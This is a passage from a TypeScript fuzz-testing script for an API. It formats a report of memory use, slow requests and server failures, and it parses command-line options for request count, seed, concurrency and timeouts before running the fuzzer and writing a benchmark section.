    `- RSS: ${rss.start} MB at start, ${rss.peak} MB at peak, ${rss.after === null ? 'not measured' : `${rss.after} MB ${rss.settleSeconds} s after the run`}${rss.gc ? ' (start and after read after a full GC)' : ''}`,
    ...Object.entries(r.slow)
      .sort((a, b) => b[1].count - a[1].count)
      .slice(0, 10)
      .map(([what, s]) => `  - over 2 s: ${s.count} × ${what.slice(0, 90)} (slowest ${(s.maxMs / 1000).toFixed(1)} s)`),
    ...(failures.length
      ? [
          '',
          'INTERNAL / 5xx / timeouts by origin:',
          '',
          ...failures.map(([where, f]) => `- ${f.count} × ${where}: ${f.example.slice(0, 200).replace(/\s+/g, ' ')}`),
        ]
      : []),
  ].join('\n');
}

function argValue(name: string): string | undefined {
  const i = process.argv.indexOf(`--${name}`);
  return i >= 0 ? process.argv[i + 1] : undefined;
}

async function main() {
  const result = await runFuzz({
    requests: Number(argValue('requests') ?? process.env.FUZZ_REQUESTS ?? 10_000),
    seed: Number(argValue('seed') ?? process.env.FUZZ_SEED ?? 1),
    concurrency: Number(argValue('concurrency') ?? 4),
    settleMs: process.argv.includes('--no-wait') ? 0 : 60_000,
    timeoutMs: Number(argValue('timeout-ms') ?? 30_000),
    log: (line) => console.log(line),
  });
  const text = formatFuzzResult(result);
  console.log(`\n${text}`);
  if (!process.argv.includes('--no-doc')) writeBenchmarkSection('apps/api — fuzz: hostile requests at the edge', text);
}

if (require.main === module) {
  main().then(
    () => process.exit(0),
    (err) => {
      console.error(err);
      process.exit(1);
    },
  );
}
